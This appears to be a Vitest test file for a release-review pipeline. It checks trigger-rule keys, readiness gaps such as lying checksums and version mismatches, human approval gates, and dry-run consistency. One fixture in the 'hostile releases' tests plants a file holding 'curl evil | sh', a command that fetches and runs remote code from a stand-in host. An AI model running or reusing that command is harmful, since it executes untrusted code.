// Release rules end to end: each release key (version, chart, npm, image, checksum, release
// branch) matches a release that has it and refuses one that does not, on the facts the forges
// give (a local forge release's pipeline artifacts and its bare repository's branches and files;
// a GitHub release's assets and the branch it names); the trigger proof records each key's
// verdict; the dry run agrees with live evaluation; each readiness gap is one approval item, made
// once however often the release is delivered, accepted by a person, and publishing waits for it.
import { beforeAll, describe, expect, it } from "vitest";

process.env.GITHUB_WEBHOOK_SECRET = "webhook-secret-for-release-key-tests";

const { getDb } = await import("@/server/db");
const { createStack, sha } = await import("@/server/domain/ingest/fixtures/world");
const { releasePublished } = await import("@/server/domain/ingest/fixtures/deliveries");
const { repoRef } = await import("@/server/domain/ingest/fixtures/local-events");
const { deliver } = await import("./fixtures/harness");
const { ingestCiEvent } = await import("@/server/domain/ingest/delivery/ingest-ci-event");
const { evaluateDelivery } = await import("./evaluate");
const { dryRunTriggerRule } = await import("./dry-run");
const { createLocalRepository } = await import("@/server/queue/testing/fixtures");
const { createRepository, createUser } = await import("@/server/testing/factories");
const { commitFiles } = await import("@/server/forges/local/repositories");
const { git } = await import("@/server/forges/local/git");
const { contentDigest } = await import("@/server/lib/digest");
const { approveApproval, approveWriteBack, rejectWriteBack } = await import("@/server/domain/run-engine/decide-approval");
const { publishReleaseRefusal } = await import("@/server/domain/writebacks/publish-release");
const { zPresented } = await import("@/server/domain/approvals/schemas");

type LocalArtifact = NonNullable<Parameters<typeof ingestCiEvent>[0]["artifacts"]>[number];

const db = getDb();
let stackId = "";
beforeAll(async () => {
  stackId = (await createStack(db)).id;
});

const CHART = "chart package bytes";
const NPM = "npm tarball bytes";
const sha256 = (s: string) => contentDigest(s).slice("sha256:".length);

/** A local-forge repository whose main holds a chart and a package at `version`, plus a release/2.x branch at that commit. */
async function localRelease(opts: { chartVersion?: string; packageVersion?: string } = {}) {
  const m = await createUser();
  const m2 = await createUser();
  const v = await createUser();
  const files = {
    "charts/airlock/Chart.yaml": `apiVersion: v2\nname: airlock\nversion: ${opts.chartVersion ?? "2.1.0"}\nappVersion: "${opts.chartVersion ?? "2.1.0"}"\n`,
    "package.json": JSON.stringify({ name: "@acme/web", version: opts.packageVersion ?? "2.1.0" }),
  };
  const local = await createLocalRepository({ files, members: [[m, "maintainer"], [m2, "maintainer"], [v, "viewer"]] });
  await git(["--git-dir", local.repoPath, "branch", "release/2.x", local.sha]);
  return { ...local, m, m2, v };
}

type Shipped = { chart?: string | null; npm?: string | null; image?: string | null; sums?: string | null };

/** The release pipeline's artifacts: chart, npm tarball, image, and a SHA256SUMS over the first two (or `sums`). */
function artifacts(version: string, o: Shipped = {}): LocalArtifact[] {
  const list: LocalArtifact[] = [];
  if (o.chart !== null) list.push({ name: o.chart ?? `airlock-${version}.tgz`, type: "chart", digest: contentDigest(CHART) });
  if (o.npm !== null) list.push({ name: o.npm ?? `acme-web-${version}.tgz`, type: "npm", digest: contentDigest(NPM) });
  if (o.image !== null) list.push({ name: o.image ?? `ghcr.io/acme/web:${version}`, type: "image", digest: `sha256:${"c".repeat(64)}` });
  if (o.sums !== null) {
    const sums = o.sums ?? `${sha256(CHART)}  ${list[0]?.name ?? "none"}\n${sha256(NPM)}  ${list[1]?.name ?? "none"}\n`;
    list.push({ name: "SHA256SUMS", type: "checksum", digest: contentDigest(sums), content: sums });
  }
  return list;
}

async function deliverLocal(repo: { fullName: string }, o: { tag: string; commitSha: string; artifacts: LocalArtifact[]; deliveryId?: string }) {
  const version = o.tag.replace(/^v(?=\d)/, "");
  const { deliveryId } = await ingestCiEvent({
    db,
    deliveryId: o.deliveryId,
    event: {
      type: "release",
      origin: "local",
      via: "publish_workflow",
      repository: repoRef(repo.fullName),
      actor: { login: "release-bot", type: "bot", association: null, airlockRole: null },
      tag: o.tag,
      version,
      commitSha: o.commitSha,
      targetCommitish: null,
      name: null,
      prerelease: false,
      url: null,
      workflowName: "Release",
      assets: [],
    },
    artifacts: o.artifacts,
  });
  return { deliveryId, result: await evaluateDelivery({ db, deliveryId }) };
}

const releaseRule = (repositoryId: string, keys: Record<string, string>) =>
  db.triggerRule.create({ data: { name: `release-${Object.keys(keys).join("-") || "any"}-${repositoryId.slice(-6)}`, kind: "release", repositoryId, stackId, taskKind: "release_review", action: "suggest", ...keys } });

const runsOf = (repositoryId: string) => db.agentDispatchRun.findMany({ where: { repositoryId }, orderBy: { number: "asc" } });

describe("each release key on the local forge", () => {
  type Case = { key: string; rule: Record<string, string>; hit: Shipped; miss: Shipped & { tag?: string; onMainOnly?: boolean }; why: RegExp };
  const cases: Case[] = [
    { key: "version", rule: { releaseVersion: "2.*" }, hit: {}, miss: { tag: "v1.4.0" }, why: /version: "1.4.0" does not match "2.\*"/ },
    { key: "chart", rule: { releaseChart: "airlock" }, hit: {}, miss: { chart: null }, why: /chart: the release ships no chart package airlock-<version>.tgz/ },
    { key: "npm", rule: { releaseNpmPackage: "@acme/web" }, hit: {}, miss: { npm: null }, why: /npm: the release ships no npm package "@acme\/web" tarball/ },
    { key: "image", rule: { releaseImage: "ghcr.io/acme/web" }, hit: {}, miss: { image: "ghcr.io/acme/other:2.1.0" }, why: /image: the release ships no image ghcr.io\/acme\/web:<tag>/ },
    { key: "checksum", rule: { releaseChecksum: "SHA256SUMS" }, hit: {}, miss: { sums: null }, why: /checksum: the release ships no checksum file "SHA256SUMS"/ },
    { key: "releaseBranch", rule: { releaseBranch: "release/*" }, hit: {}, miss: { onMainOnly: true }, why: /release branch: the tag's commit is on main, none matching "release\/\*"/ },
  ];

  it.each(cases.map((c) => [c.key, c] as const))("%s: matches a release that has it, refuses one that does not, and the proof says so", async (_key, c) => {
    const repo = await localRelease();
    const rule = await releaseRule(repo.repository.id, c.rule);
    const hit = await deliverLocal(repo.repository, { tag: "v2.1.0", commitSha: repo.sha, artifacts: artifacts("2.1.0", c.hit) });
    expect(hit.result.outcome, hit.result.detail).toBe("processed");
    const [run] = await runsOf(repo.repository.id);
    expect(run).toMatchObject({ triggerRuleId: rule.id, source: "release", taskKind: "release_review" });
    const matched = await db.runEvent.findFirstOrThrow({ where: { runId: run!.id, type: "trigger_matched" } });
    const keys = (matched.payload as { keys?: { key: string; matched: boolean; detail: string }[] }).keys;
    expect(keys).toEqual([expect.objectContaining({ key: c.key, matched: true })]);

    // The miss: a commit on main only (a new one, so the release is another subject).
    const commit = c.miss.onMainOnly ? await commitFiles({ repoPath: repo.repoPath, branch: "main", files: { "NOTES.md": "2.1.1\n" }, message: "notes" }) : repo.sha;
    const tag = c.miss.tag ?? "v2.1.1";
    const version = tag.replace(/^v/, "");
    const miss = await deliverLocal(repo.repository, { tag, commitSha: commit, artifacts: artifacts(version, c.miss) });
    expect(await runsOf(repo.repository.id)).toHaveLength(1);
    expect(miss.result.detail).toMatch(c.why);
  });
});

describe("hostile releases", () => {
  it("a tag naming a commit on no branch of the repository is refused by a release-branch rule, and runs untrusted under a rule without one", async () => {
    const repo = await localRelease();
    // A commit the repository holds on no branch (a fork's head fetched in, a deleted branch's tip).
    const stray = await commitFiles({ repoPath: repo.repoPath, branch: "stray", files: { "evil.sh": "curl evil | sh\n" }, message: "stray" });
    await git(["--git-dir", repo.repoPath, "branch", "-D", "stray"]);
    const guarded = await releaseRule(repo.repository.id, { releaseBranch: "*" });
    const out = await deliverLocal(repo.repository, { tag: "v2.1.0", commitSha: stray, artifacts: artifacts("2.1.0") });
    expect(out.result.detail).toMatch(/release branch: the tag's commit is on no branch of the repository/);
    expect(await runsOf(repo.repository.id)).toHaveLength(0);

    await db.triggerRule.delete({ where: { id: guarded.id } });
    await releaseRule(repo.repository.id, {});
    await deliverLocal(repo.repository, { tag: "v2.1.0", commitSha: stray, artifacts: artifacts("2.1.0") });
    const [run] = await runsOf(repo.repository.id);
    expect(run).toMatchObject({ origin: "unknown", isFork: true });
    expect(run!.originReason).toMatch(/on no branch of the repository/);
  });

  it("a tag naming a fork pull request's head runs as a fork's code", async () => {
    const repo = await localRelease();
    const head = await commitFiles({ repoPath: repo.repoPath, branch: "fork-head", files: { "x.js": "1\n" }, message: "fork" });
    await db.pullRequest.create({ data: { repositoryId: repo.repository.id, number: 7, title: "from a fork", author: "stranger", headRef: "main", headSha: head, headRepoFullName: "stranger/fork", baseRef: "main", isFork: true, state: "open" } });
    await releaseRule(repo.repository.id, {});
    await deliverLocal(repo.repository, { tag: "v2.1.0", commitSha: head, artifacts: artifacts("2.1.0") });
    const [run] = await runsOf(repo.repository.id);
    expect(run).toMatchObject({ origin: "fork", isFork: true });
  });

  it("a checksum file that lies is a checksum_mismatch gap, an approval item, and publishing waits for it", async () => {
    const repo = await localRelease();
    await releaseRule(repo.repository.id, { releaseChart: "airlock", releaseChecksum: "SHA256SUMS" });
    const lie = `${"0".repeat(64)}  airlock-2.1.0.tgz\n${sha256(NPM)}  acme-web-2.1.0.tgz\n`;
    await deliverLocal(repo.repository, { tag: "v2.1.0", commitSha: repo.sha, artifacts: artifacts("2.1.0", { sums: lie }) });
    const [run] = await runsOf(repo.repository.id);
    const gaps = await db.approvalRequest.findMany({ where: { runId: run!.id, action: "release_gap" } });
    const presented = gaps.map((g) => zPresented.parse(g.presented).releaseGap);
    // Only the lie: the image is named by its registry digest, so a checksum file need not list it.
    expect(presented).toEqual([
      expect.objectContaining({ kind: "checksum_mismatch", subject: "airlock-2.1.0.tgz", detail: expect.stringContaining(`SHA256SUMS says airlock-2.1.0.tgz is sha256:${"0".repeat(64)}`) }),
    ]);
    await db.agentDispatchRun.update({ where: { id: run!.id }, data: { status: "succeeded" } });
    await db.artifact.create({ data: { runId: run!.id, kind: "report", name: "readiness.md", content: "# ready", digest: contentDigest("# ready"), sizeBytes: 7 } });
    expect(await publishReleaseRefusal(db, { id: run!.id, status: "succeeded" })).toMatch(/1 readiness gap waits for a person to accept it/);
  });

  it("refuses a release whose version is over 100 characters, whatever its rules", async () => {
    const repo = await localRelease();
    await releaseRule(repo.repository.id, {});
    const tag = `v2.${"9".repeat(200)}`;
    const out = await deliverLocal(repo.repository, { tag, commitSha: repo.sha, artifacts: [] });
    expect(out.result.detail).toMatch(/release version is 202 characters long, over 100: not reviewed/);
    expect(await runsOf(repo.repository.id)).toHaveLength(0);
  });

  it("refuses to save a release key with spaces or over 100 characters", async () => {
    const { zTriggerRuleInput } = await import("@/server/domain/triggers/forms/schemas");
    const base = { name: "r", kind: "release", repositoryId: null, workflow: null, job: null, step: null, branchGlob: null, pathFilters: [], failureSignature: null, stackId, taskKind: "release_review", action: "suggest", enabled: true };
    expect(zTriggerRuleInput.safeParse({ ...base, releaseVersion: "2.*" }).success).toBe(true);
    expect(zTriggerRuleInput.safeParse({ ...base, releaseVersion: "x".repeat(101) }).success).toBe(false);
    expect(zTriggerRuleInput.safeParse({ ...base, releaseChart: "a b" }).success).toBe(false);
    expect(zTriggerRuleInput.safeParse({ ...base, kind: "failed_check", taskKind: "diagnose", releaseChart: "airlock" }).success).toBe(false);
  });

  it("refuses a repository exception for release gaps: a gap is always a person's to accept", async () => {
    const { zRepositoryPolicyInput } = await import("@/server/domain/repositories/schemas");
    const policy = { autoRunOnFailedCheck: false, botCommentsAllowed: false, twoPersonRule: true, rollBackMode: "revert", botHandle: "@agent", dispatchLabel: "agent:diagnose", maxFixAttempts: 3, dailyCostCapUsd: null, agentReadyLabel: "ready-for-agent", humanReadyLabel: "ready-for-human" };
    expect(zRepositoryPolicyInput.safeParse({ ...policy, writeBackExceptions: ["comment"] }).success).toBe(true);
    expect(zRepositoryPolicyInput.safeParse({ ...policy, writeBackExceptions: ["release_gap"] }).success).toBe(false);
  });
});

describe("readiness gaps as approval items", () => {
  it("makes one approval item per gap, once across redeliveries, decided by a person through the gate", async () => {
    // Chart.yaml at the tag's commit says 2.0.9; the chart package and package.json say 2.1.0.
    const repo = await localRelease({ chartVersion: "2.0.9" });
    await releaseRule(repo.repository.id, { releaseChart: "airlock", releaseNpmPackage: "@acme/web", releaseChecksum: "SHA256SUMS", releaseBranch: "release/*" });
    const sums = `${sha256(CHART)}  airlock-2.1.0.tgz\n${sha256(NPM)}  acme-web-2.1.0.tgz\n${sha256("ui")}  ui-2.1.0.zip\n`;
    const shipped = artifacts("2.1.0", { sums, image: null });
    const first = await deliverLocal(repo.repository, { tag: "v2.1.0", commitSha: repo.sha, artifacts: shipped });
    expect(first.result.outcome).toBe("processed");
    // The same release again (another delivery id), and the first delivery evaluated again.
    const again = await deliverLocal(repo.repository, { tag: "v2.1.0", commitSha: repo.sha, artifacts: shipped });
    expect(again.result.detail).toMatch(/duplicate/);
    await evaluateDelivery({ db, deliveryId: first.deliveryId });

    const [run, ...more] = await runsOf(repo.repository.id);
    expect(more).toHaveLength(0);
    const items = await db.approvalRequest.findMany({ where: { runId: run!.id }, orderBy: { createdAt: "asc" } });
    const gaps = items.map((i) => ({ action: i.action, status: i.status, gap: zPresented.parse(i.presented).releaseGap }));
    expect(gaps.map((g) => [g.action, g.gap?.kind, g.gap?.subject])).toEqual([
      ["release_gap", "version_mismatch", "charts/airlock/Chart.yaml"],
      ["release_gap", "version_mismatch", "charts/airlock/Chart.yaml#appVersion"],
      ["release_gap", "missing_artifact", "ui-2.1.0.zip"],
    ]);
    expect(gaps[0]!.gap).toMatchObject({ tag: "v2.1.0", version: "2.1.0", commitSha: repo.sha, detail: 'charts/airlock/Chart.yaml at the tag\'s commit says version "2.0.9"; the release is "2.1.0"' });
    const requested = await db.runEvent.count({ where: { runId: run!.id, type: "approval_requested" } });
    expect(requested).toBe(3);

    // A viewer cannot decide; the write-back path refuses a gap; a stale commit is refused.
    const [a, b, c] = items;
    await expect(approveApproval({ db, actor: repo.v, approvalId: a!.id, artifactDigest: null, headSha: repo.sha })).rejects.toThrow(/maintainer role/);
    await expect(approveWriteBack({ db, actor: repo.m, approvalId: a!.id, artifactDigest: null, headSha: repo.sha })).rejects.toThrow(/readiness gap, not a write-back/);
    await expect(approveApproval({ db, actor: repo.m, approvalId: a!.id, artifactDigest: null, headSha: sha("elsewhere") })).rejects.toThrow(/stale/);

    // Accepting writes no write-back; publishing still waits for the others; a rejection stops it.
    expect(await approveApproval({ db, actor: repo.m, approvalId: a!.id, artifactDigest: null, headSha: repo.sha })).toEqual({ approvalId: a!.id, writeBackId: null });
    await expect(approveApproval({ db, actor: repo.m2, approvalId: a!.id, artifactDigest: null, headSha: repo.sha })).rejects.toThrow(/already approved/);
    expect(await db.writeBack.count({ where: { runId: run!.id } })).toBe(0);
    await db.agentDispatchRun.update({ where: { id: run!.id }, data: { status: "succeeded" } });
    await db.artifact.create({ data: { runId: run!.id, kind: "report", name: "readiness.md", content: "# ready", digest: contentDigest("# ready"), sizeBytes: 7 } });
    expect(await publishReleaseRefusal(db, { id: run!.id, status: "succeeded" })).toMatch(/2 readiness gaps wait for a person/);
    await approveApproval({ db, actor: repo.m2, approvalId: b!.id, artifactDigest: null, headSha: repo.sha });
    await rejectWriteBack({ db, actor: repo.m, approvalId: c!.id, reason: "the UI bundle must ship" });
    expect(await publishReleaseRefusal(db, { id: run!.id, status: "succeeded" })).toMatch(/A readiness gap was rejected: SHA256SUMS lists ui-2.1.0.zip, and the release does not ship it/);
    const audits = await db.auditEntry.findMany({ where: { objectType: "ApprovalRequest", objectId: { in: [a!.id, b!.id, c!.id] } }, select: { action: true } });
    expect(audits.map((x) => x.action).sort()).toEqual(["approval.approve", "approval.approve", "approval.reject"]);
  });

  it("a release with every gap accepted may be published", async () => {
    const repo = await localRelease();
    await releaseRule(repo.repository.id, { releaseChart: "airlock", releaseChecksum: "SHA256SUMS" });
    await deliverLocal(repo.repository, { tag: "v2.1.0", commitSha: repo.sha, artifacts: artifacts("2.1.0", { image: null }) });
    const [run] = await runsOf(repo.repository.id);
    expect(await db.approvalRequest.count({ where: { runId: run!.id } })).toBe(0);
    await db.agentDispatchRun.update({ where: { id: run!.id }, data: { status: "succeeded" } });
    await db.artifact.create({ data: { runId: run!.id, kind: "report", name: "readiness.md", content: "# ready", digest: contentDigest("# ready"), sizeBytes: 7 } });
    expect(await publishReleaseRefusal(db, { id: run!.id, status: "succeeded" })).toBeNull();
  });
});

describe("the dry run agrees with live evaluation", () => {
  it("creates and skips the same releases, for the same key, with the same gaps", async () => {
    const repo = await localRelease({ packageVersion: "2.0.0" });
    const keys = { releaseVersion: "2.*", releaseNpmPackage: "@acme/web", releaseBranch: "release/*" };
    const events = [
      { tag: "v2.1.0", commitSha: repo.sha, artifacts: artifacts("2.1.0") },
      { tag: "v3.0.0", commitSha: repo.sha, artifacts: artifacts("3.0.0") },
      { tag: "v2.2.0", commitSha: repo.sha, artifacts: artifacts("2.2.0", { npm: null }) },
    ];
    const ids: string[] = [];
    for (const e of events) ids.push((await ingestCiEvent({ db, event: { type: "release", origin: "local", via: "publish_workflow", repository: repoRef(repo.repository.fullName), actor: { login: "release-bot", type: "bot", association: null, airlockRole: null }, tag: e.tag, version: e.tag.slice(1), commitSha: e.commitSha, targetCommitish: null, name: null, prerelease: false, url: null, workflowName: "Release", assets: [] }, artifacts: e.artifacts })).deliveryId);
    const input = { name: "dry", kind: "release", repositoryId: repo.repository.id, workflow: null, job: null, step: null, branchGlob: null, pathFilters: [], failureSignature: null, stackId, taskKind: "release_review", action: "suggest", enabled: true, ...keys };
    const dry = await dryRunTriggerRule({ db, actor: repo.m, input: { ruleId: null, rule: input } });
    const byDelivery = new Map(dry.events.map((e) => [e.ref.kind === "delivery" ? e.ref.deliveryId : "", e]));

    await releaseRule(repo.repository.id, keys);
    for (const [i, deliveryId] of ids.entries()) {
      const live = await evaluateDelivery({ db, deliveryId });
      const planned = byDelivery.get(deliveryId);
      const run = await db.agentDispatchRun.findFirst({ where: { repositoryId: repo.repository.id, contextBundle: { path: ["ref", "tag"], equals: events[i]!.tag } } });
      if (planned?.outcome === "create") {
        expect(run, `${events[i]!.tag}: ${live.detail}`).not.toBeNull();
        const gaps = await db.approvalRequest.findMany({ where: { runId: run!.id, action: "release_gap" } });
        expect(gaps.map((g) => zPresented.parse(g.presented).releaseGap?.id).sort()).toEqual(planned.candidate!.gaps.map((g) => g.id).sort());
      } else {
        expect(planned?.outcome).toBe("skipped");
        expect(run).toBeNull();
        expect(live.detail).toContain(planned!.reason);
      }
    }
    expect(ids.map((id) => byDelivery.get(id)?.outcome)).toEqual(["create", "skipped", "skipped"]);
    expect(byDelivery.get(ids[0]!)?.candidate?.gaps.map((g) => g.kind)).toEqual(["version_mismatch"]);
    expect(byDelivery.get(ids[1]!)?.reason).toMatch(/version: "3.0.0" does not match "2.\*"/);
    expect(byDelivery.get(ids[2]!)?.reason).toMatch(/npm: the release ships no npm package/);
  });
});

describe("a GitHub release", () => {
  it("matches its checksum file and the branch GitHub names, shows an unverified-checksum gap, and never matches an image", async () => {
    const repo = await createRepository();
    const imageRule = await releaseRule(repo.id, { releaseImage: "ghcr.io/octo/hello" });
    const skipped = await deliver(db, releasePublished({ repo: repo.fullName, tag: "v1.2.0", targetCommitish: sha("gh-release") }));
    expect(skipped.detail).toMatch(/image: the release ships no image ghcr.io\/octo\/hello:<tag> \(GitHub release events carry no images\)/);
    await db.triggerRule.delete({ where: { id: imageRule.id } });

    await releaseRule(repo.id, { releaseChecksum: "SHA256SUMS", releaseBranch: "main", releaseChart: "hello-world" });
    // A release cut from main names no commit: the tag's release pipeline does.
    await db.pipeline.create({ data: { repositoryId: repo.id, workflowName: "Release", externalId: `rel-${repo.id}`, checkName: "Release / publish", status: "completed", conclusion: "success", headSha: sha("gh-main"), headBranch: "v1.2.0" } });
    const out = await deliver(db, releasePublished({ repo: repo.fullName, tag: "v1.2.0", targetCommitish: "main" }));
    expect(out.outcome, out.detail).toBe("processed");
    const [run] = await runsOf(repo.id);
    const matched = await db.runEvent.findFirstOrThrow({ where: { runId: run!.id, type: "trigger_matched" } });
    expect((matched.payload as { keys: { key: string; detail: string }[] }).keys.map((k) => k.detail)).toEqual([
      "chart: ships hello-world-1.2.0.tgz",
      "checksum: ships SHA256SUMS",
      "release branch: the tag's commit is on main (GitHub names main)",
    ]);
    const gaps = await db.approvalRequest.findMany({ where: { runId: run!.id, action: "release_gap" } });
    expect(gaps.map((g) => zPresented.parse(g.presented).releaseGap?.detail)).toEqual([
      "SHA256SUMS's entries were not read (GitHub's release event carries each asset's digest, not its content): no artifact's digest was checked against it",
    ]);
  });
});
